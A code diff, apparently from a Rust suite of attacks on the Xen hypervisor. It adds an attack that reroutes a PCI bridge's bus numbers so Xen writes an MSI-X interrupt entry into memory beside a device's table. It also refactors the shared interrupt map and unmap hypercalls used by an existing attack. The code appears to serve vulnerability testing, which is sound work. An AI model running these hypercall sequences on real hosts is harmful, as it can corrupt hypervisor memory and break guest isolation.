@@ -150,6 +150,12 @@ pub const ATTACKS: &[Attack] = &[
         },
     ),
     Attack::new(
+        "interrupts-elsewhere",
+        "46",
+        "have Xen write an interrupt beside a device's table, whose place it reads anew where no device answers",
+        interrupts_elsewhere,
+    ),
+    Attack::new(
         "interrupts-over-ram",
         "46",
         "have Xen keep a device's table of interrupts in a page of the guest's",
@@ -397,6 +403,58 @@ fn performance(scene: &Scene<'_>, flags: u64, limit: u32, register: [u64; 2]) ->
 }
 
 /// Points a device at RAM, as if its registers were there, and asks for one of its interrupts.
+fn interrupts_elsewhere(scene: &Scene<'_>) -> Result<Came> {
+    const MEMORY: u32 = 1 << 1;
+    const BUSES: u16 = 0x18;
+    let device = PciDevice::with_interrupt_table()?;
+    let bridge = PciDevice::find(|found| {
+        Ok(found.read(8)? >> 16 == 0x0604 && found.read(BUSES)? >> 8 & 0xff == u32::from(device.bus))
+    })?;
+    let capability = device.interrupt_table.context("it has no table")?;
+    let table = device.read(capability + 4)?;
+    let place = u64::from(device.read(0x10 + 4 * (table as u16 & 7))? & !0xf);
+    ensure!(place != 0, "firmware gave the device no place");
+    let command = device.read(4)?;
+    device.write(4, command | MEMORY)?;
+    let first = map_interrupt(scene, &device, 0, place)?;
+    // To a bus that nothing is on: each read of the device gives ones.
+    let buses = bridge.read(BUSES)?;
+    bridge.write(BUSES, buses & 0xff00_00ff | 0x0030_3000)?;
+    let beside = map_interrupt(scene, &device, 1, place);
+    bridge.write(BUSES, buses)?;
+    let came = after(beside, |number| {
+        unmap_interrupt(scene, number)?;
+        Ok(Came::Through("Xen wrote to the page behind it".to_owned()))
+    });
+    unmap_interrupt(scene, first)?;
+    device.write(4, command)?;
+    came
+}
+
+/// Maps an entry of a device's table of interrupts, which dom0 says is in a BAR at `place`; its number.
+fn map_interrupt(scene: &Scene<'_>, device: &PciDevice, entry: u32, place: u64) -> Result<u32, Error> {
+    let mut call = scene.xen.buffer(40)?;
+    call.put(0, 0x7ff0u16);
+    // By segment, any index, any number.
+    call.put(4, [3u32, u32::MAX, u32::MAX]);
+    call.put(16, [u32::from(device.bus), u32::from(device.function), entry]);
+    call.put(32, place);
+    scene
+        .xen
+        .call("an interrupt", PHYSDEV_OP, &[13, call.address()])?;
+    Ok(call.get::<u32>(12))
+}
+
+fn unmap_interrupt(scene: &Scene<'_>, number: u32) -> Result<(), Error> {
+    let mut call = scene.xen.buffer(8)?;
+    call.put(0, 0x7ff0u16);
+    call.put(4, number);
+    scene
+        .xen
+        .call("no interrupt", PHYSDEV_OP, &[14, call.address()])?;
+    Ok(())
+}
+
 fn interrupts_over_ram(scene: &Scene<'_>) -> Result<Came> {
     const MEMORY: u32 = 1 << 1;
     let device = PciDevice::with_interrupt_table()?;
@@ -417,20 +475,9 @@ fn interrupts_over_ram(scene: &Scene<'_>) -> Result<Came> {
     device.write(bar, ((victim << 12) - offset) as u32)?;
     let command = device.read(4)?;
     device.write(4, command | MEMORY)?;
-    let mut call = scene.xen.buffer(40)?;
-    call.put(0, 0x7ff0u16);
-    // By segment, any index, any number.
-    call.put(4, [3u32, u32::MAX, u32::MAX]);
-    call.put(16, [u32::from(device.bus), u32::from(device.function), 0]);
-    call.put(32, (victim << 12) - offset);
-    let mapped = scene.xen.call("an interrupt", PHYSDEV_OP, &[13, call.address()]);
-    let came = after(mapped, |_| {
-        let mut given = scene.xen.buffer(8)?;
-        given.put(0, 0x7ff0u16);
-        given.put(4, call.get::<u32>(12));
-        scene
-            .xen
-            .call("no interrupt", PHYSDEV_OP, &[14, given.address()])?;
+    let mapped = map_interrupt(scene, &device, 0, (victim << 12) - offset);
+    let came = after(mapped, |number| {
+        unmap_interrupt(scene, number)?;
         Ok(Came::Through("Xen wrote to it".to_owned()))
     });
     device.write(4, command)?;
